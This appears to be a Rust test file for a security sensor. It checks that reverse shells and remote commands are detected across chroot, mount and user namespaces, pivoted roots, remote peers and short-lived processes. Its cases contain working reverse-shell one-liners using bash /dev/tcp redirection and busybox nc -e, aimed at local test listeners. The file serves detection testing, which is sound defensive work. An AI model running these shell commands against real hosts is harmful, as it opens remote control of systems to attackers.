//! Takeovers in other places than this test's: other networks, other file systems, other transports.

use std::{fs, os::unix::fs::PermissionsExt};

use anyhow::{Result, ensure};
use sensor_tests::{
    containers::image,
    lab::{Lab, REVERSE, Want},
    network::Network,
    peer::{Listener, Peer, V4},
    suite::Case,
};

const COMMAND: Want = Want {
    severity: "MEDIUM",
    direction: "outbound",
    technique: "remote_command",
};

/// Runs `script` in bash with $ROOT, the [`image`], and demands that the finding has the path that the shell itself sees.
fn contained(lab: &Lab<'_>, script: &str, path: &str) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    let root = image(lab)?;
    let port = listener.port()?.to_string();
    lab.bash(
        script,
        &[("H", "127.0.0.1"), ("P", &port), ("ROOT", &root.to_string_lossy())],
    )?;
    let mut peer = listener.accept()?;
    peer.id()?;
    let finding = lab.finding(peer.ends(), REVERSE)?;
    let processes = finding.processes()?;
    ensure!(
        processes.first().is_some_and(|shell| shell.path == path),
        "the shell's path is not {path}: {finding}"
    );
    peer.send("exit\n")?;
    lab.ended(&finding)?;
    Ok(())
}

/// Runs `script` at the far end of a cable, where the peer's address is $H.
fn remote(lab: &Lab<'_>, script: &str) -> Result<Peer> {
    let network = Network::new(lab)?;
    let listener = network.listener()?;
    let mut bash = network.command(lab, "bash")?;
    bash.args(["-c", script])
        .env("H", "198.51.100.1")
        .env("P", listener.port()?.to_string());
    lab.spawn(&mut bash)?;
    listener.accept()
}

/// Two shells at once, on a connection each.
fn two_shells(lab: &Lab<'_>) -> Result<()> {
    let listener = Listener::tcp(V4)?;
    let port = listener.port()?.to_string();
    let mut shells = Vec::new();
    for _ in 0..2 {
        lab.bash("bash -i >& /dev/tcp/127.0.0.1/$P 0>&1", &[("P", &port)])?;
        let mut peer = listener.accept()?;
        shells.push((peer.shell()?, peer));
    }
    let mut findings = Vec::new();
    for (shell, peer) in &shells {
        let finding = lab.finding(peer.ends(), REVERSE)?;
        lab.same(&finding, shell)?;
        findings.push(finding);
    }
    ensure!(
        findings
            .iter()
            .any(|finding| finding.id() != findings.first().map_or("", |first| first.id()))
    );
    for ((_, mut peer), finding) in shells.into_iter().zip(&findings) {
        peer.send("exit\n")?;
        lab.ended(finding)?;
    }
    Ok(())
}

pub fn cases() -> Vec<Case> {
    vec![
        Case::new("places::two_shells_at_once", &["bash"], two_shells),
        Case::new("places::chroot", &["busybox", "chroot"], |lab| {
            contained(
                lab,
                "chroot $ROOT /bin/busybox nc $H $P -e /opt/tools/ash",
                "/opt/tools/ash",
            )
        }),
        Case::new("places::chroot_through_a_link", &["busybox", "chroot"], |lab| {
            contained(
                lab,
                "exec chroot $ROOT /bin/busybox nc $H $P -e /bin/sh",
                "/bin/busybox",
            )
        }),
        Case::new("places::mount_namespace_and_chroot", &["busybox", "unshare"], |lab| {
            let script = "exec unshare --mount --pid --fork --root=$ROOT /bin/busybox nc $H $P -e /opt/tools/ash";
            contained(lab, script, "/opt/tools/ash")
        }),
        // What a container runtime does: the image becomes the root of a mount namespace.
        Case::new("places::pivoted_root", &["busybox", "unshare"], |lab| {
            let script = "exec unshare --mount --pid --fork bash -c 'mount --bind $ROOT $ROOT && cd $ROOT && \
                mkdir -p old && pivot_root . old && exec /bin/busybox nc $H $P -e /bin/sh'";
            contained(lab, script, "/bin/busybox")
        }),
        // The path crosses a file system that only this namespace has mounted.
        Case::new("places::mounted_file_system", &["busybox", "unshare"], |lab| {
            let script = "exec unshare --mount bash -c 'mount -t tmpfs none $ROOT/tmp && mkdir $ROOT/tmp/inner && \
                cp $ROOT/bin/busybox $ROOT/tmp/inner/ash && exec busybox nc $H $P -e $ROOT/tmp/inner/ash'";
            let path = lab.path("image/tmp/inner/ash");
            contained(lab, script, &path.to_string_lossy())
        }),
        Case::new("places::user_namespace", &["unshare", "setpriv"], |lab| {
            let script = "exec setpriv --reuid 65534 --regid 65534 --clear-groups unshare --user --map-root-user \
                bash -c 'exec 5<>/dev/tcp/$H/$P; exec sh <&5 >&5 2>&5'";
            lab.reverse(script)
        }),
        Case::new("places::peer_that_is_not_loopback", &["ip", "nsenter"], |lab| {
            lab.taken(
                remote(lab, "exec 3<>/dev/tcp/$H/$P; bash -i <&3 >&3 2>&3; true")?,
                REVERSE,
            )
        }),
        // No command interpreter, but its whole conversation is with a stranger.
        Case::new("places::command_on_a_connection", &["ip", "nsenter"], |lab| {
            let mut peer = remote(lab, "exec 3<>/dev/tcp/$H/$P; id <&3 >&3 2>&3; true")?;
            peer.read_until("uid=")?;
            let finding = lab.finding(peer.ends(), COMMAND)?;
            drop(peer);
            lab.ended(&finding)?;
            Ok(())
        }),
        // A wrapper is a command on a connection, until the shell that it starts shows what this is.
        Case::new("places::raised_by_the_shell", &["ip", "nsenter", "timeout"], |lab| {
            let mut peer = remote(lab, "exec 3<>/dev/tcp/$H/$P; exec timeout 600 sh <&3 >&3 2>&3")?;
            peer.id()?;
            lab.finding(peer.ends(), COMMAND)?;
            let raised = lab.risen_finding(peer.ends(), REVERSE)?;
            peer.send("exit\n")?;
            lab.ended(&raised)?;
            Ok(())
        }),
        // Gone a millisecond after it was started by a relative path: the finding has the absolute one.
        Case::new("places::relative_path_of_a_short_life", &["bash", "true"], |lab| {
            fs::create_dir(lab.path("sub"))?;
            fs::copy("/bin/true", lab.path("sub/gone"))?;
            fs::set_permissions(lab.path("sub/gone"), fs::Permissions::from_mode(0o755))?;
            let relsh = lab.copy("dash", "relsh")?;
            let script = "exec 5<>/dev/tcp/$H/$P; cd ${X%/*}; ./relsh <&5 >&5 2>&5; true";
            let mut peer = lab.connected(script, &relsh)?;
            let shell = peer.shell()?;
            let finding = lab.finding(peer.ends(), REVERSE)?;
            lab.same(&finding, &shell)?;
            peer.send("cd sub; ./gone; ../sub/./gone; rm gone; exit\n")?;
            let last = lab.ended(&finding)?;
            let path = lab.path("sub/gone").to_string_lossy().into_owned();
            let found = last
                .processes()?
                .into_iter()
                .filter(|process| process.path == path)
                .count();
            ensure!(found == 2, "{found} of 2 processes have the path {path}: {last}");
            Ok(())
        }),
        // A whole takeover that is over before anybody could look it up.
        Case::new("places::shell_of_a_short_life", &["bash", "dash"], |lab| {
            let relsh = lab.copy("dash", "relsh")?;
            let script = "exec 5<>/dev/tcp/$H/$P; cd ${X%/*}; ./relsh <&5 >&5 2>&5; true";
            let mut peer = lab.connected(script, &relsh)?;
            peer.send("rm relsh; id; exit\n")?;
            peer.read_until("uid=")?;
            let finding = lab.finding(peer.ends(), REVERSE)?;
            let shell = finding.processes()?.into_iter().next();
            let path = relsh.to_string_lossy();
            ensure!(
                shell.is_some_and(|shell| shell.path == path),
                "the shell's path is not {path}: {finding}"
            );
            lab.ended(&finding)?;
            Ok(())
        }),
    ]
}
